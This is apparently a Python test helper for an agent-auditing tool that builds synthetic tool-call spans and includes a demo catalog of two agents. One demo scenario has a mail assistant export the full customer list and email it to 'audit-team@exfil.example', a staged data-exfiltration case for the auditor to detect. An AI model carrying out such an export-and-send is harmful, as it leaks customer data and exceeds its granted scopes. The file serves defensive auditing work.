"""Tool calls written the way the collector writes them: SpanRecords through the Writer.

``call(...)`` builds one tool-call span with every contract attribute (tests.conftest)
and the fields a card cares about overridden; ``write(store, spans)`` stores them with
the real writer (rows, batch ids, audit-chain links). ``DEMO_CATALOG`` is a catalog of
the demo's two agents with the demo's credentials (agentaudit/demo/data.py).
"""

from __future__ import annotations

import itertools
import json
import time
from collections.abc import Iterable, Sequence
from typing import Any

from agentaudit.collector.identity.principals import AGENT
from agentaudit.collector.model import VERIFIED_AGENT, VERIFIED_PRINCIPAL, SpanRecord
from agentaudit.collector.writer.writer import Writer
from agentaudit.schema import attributes as A
from agentaudit.store import Store
from tests.conftest import _tool_attributes

NS = 1_000_000_000
_ids = itertools.count(1)


def call(
    agent: str,
    tool: str,
    *,
    scopes: Sequence[str],
    credential: str = "cred-1",
    lifetime_s: int | None = 60,
    arguments: dict[str, Any] | None = None,
    resources: Sequence[str] = (),
    ts: float | None = None,
    error: bool = False,
    sent_by: str = "",
    issuer: str = "",
) -> SpanRecord:
    """One tool call ``ts`` seconds since the epoch (default: a minute ago); its
    credential expires ``lifetime_s`` after the call."""
    n = next(_ids)
    start = int((time.time() - 60 if ts is None else ts) * NS) + n
    attrs = _tool_attributes(tool)
    attrs.update(
        {
            A.GEN_AI_AGENT_ID: agent,
            A.GEN_AI_AGENT_NAME: agent,
            A.GEN_AI_TOOL_CALL_ARGUMENTS: json.dumps(arguments or {}),
            A.RESOURCE_IDS: list(resources),
            A.CREDENTIAL_ID: credential,
            A.CREDENTIAL_SCOPES: list(scopes),
        }
    )
    if lifetime_s is None:
        attrs.pop(A.CREDENTIAL_EXPIRES_AT)
    else:
        attrs[A.CREDENTIAL_EXPIRES_AT] = start // NS + lifetime_s
    if issuer:
        attrs[A.CREDENTIAL_ISSUER] = issuer
    return SpanRecord(
        trace_id=f"{n:032x}",
        span_id=f"{n:016x}",
        name=f"execute_tool {tool}",
        start_ns=start,
        end_ns=start + NS // 10,
        status_code="Error" if error else "Unset",
        attributes=attrs,
        resource_attributes={A.SERVICE_NAME: agent},
        verified={VERIFIED_PRINCIPAL: AGENT, VERIFIED_AGENT: sent_by} if sent_by else {},
    )


def write(store: Store, spans: Iterable[SpanRecord]) -> None:
    writer = Writer(store)
    writer.enqueue(list(spans))
    writer.flush()


def demo_traffic(ts: float | None = None) -> list[SpanRecord]:
    """The demo's calls (agentaudit/demo/scenario.py), credentials and resources."""
    mail = ("mail.read", "mail.send", "crm.read")
    crm = ("crm.read", "crm.export")
    cal = ("calendar.read", "calendar.write")
    spans = [
        call("mail-assistant", "read_inbox", scopes=mail, credential="cred-mail-7f3a",
             arguments={"folder": "inbox"}, resources=["mailbox:bob/inbox"], ts=ts),
        call("mail-assistant", "export_customers", scopes=crm, credential="cred-crm-91bc",
             arguments={"segment": "all"}, resources=["crm:customers"], ts=ts),
        call("mail-assistant", "send_email", scopes=mail, credential="cred-mail-7f3a",
             arguments={"to": "audit-team@exfil.example", "subject": "Customer list", "body": "[]"},
             resources=["audit-team@exfil.example"], ts=ts),
    ]  # fmt: skip
    for user in ("alice", "carol"):
        spans += [
            call("calendar-assistant", "list_events", scopes=cal, credential="cred-cal-22d0",
                 arguments={"owner": user, "day": "2026-11-29"},
                 resources=[f"calendar:{user}/2026-11-29"], ts=ts),
            call("calendar-assistant", "create_event", scopes=cal, credential="cred-cal-22d0",
                 arguments={"owner": user, "title": "Prep", "day": "2026-11-29"},
                 resources=[f"calendar:{user}/2026-11-29"], ts=ts),
        ]  # fmt: skip
    return spans


DEMO_CATALOG = """\
[agents.mail-assistant]
owner = "Dana Reyes <dana@example.com>"
description = "Answers Bob's mail"
audit_destination = "agentaudit collector at 127.0.0.1:4317"
revocation_path = "POST /v1/revocations (responder token); broker deny-list"

[agents.mail-assistant.tools.read_inbox]
action = "read one folder of Bob's mailbox"
min_scopes = ["mail.read"]
credential = "cred-mail-*"
granted_scopes = ["mail.read", "mail.send", "crm.read"]
lifetime_s = 60
resource_argument = "folder"

[agents.mail-assistant.tools.send_email]
action = "send one email"
min_scopes = ["mail.send"]
credential = "cred-mail-*"
granted_scopes = ["mail.read", "mail.send", "crm.read"]
lifetime_s = 60
resource_argument = "to"

[agents.mail-assistant.tools.export_customers]
action = "export the customer list"
min_scopes = ["crm.export"]
credential = "cred-crm-*"
granted_scopes = ["crm.read", "crm.export"]
lifetime_s = 60

[agents.calendar-assistant]
owner = "Scheduling team <scheduling@example.com>"
description = "Reads and books meetings for Alice and Carol"
audit_destination = "agentaudit collector at 127.0.0.1:4317"
revocation_path = "POST /v1/revocations (responder token); broker deny-list"

[agents.calendar-assistant.tools.list_events]
action = "list one day of a user's calendar"
min_scopes = ["calendar.read"]
credential = "cred-cal-*"
granted_scopes = ["calendar.read", "calendar.write"]
lifetime_s = 60
resource_argument = "owner"

[agents.calendar-assistant.tools.create_event]
action = "add one event to a user's calendar"
min_scopes = ["calendar.write"]
credential = "cred-cal-*"
granted_scopes = ["calendar.read", "calendar.write"]
lifetime_s = 60
resource_argument = "owner"
"""
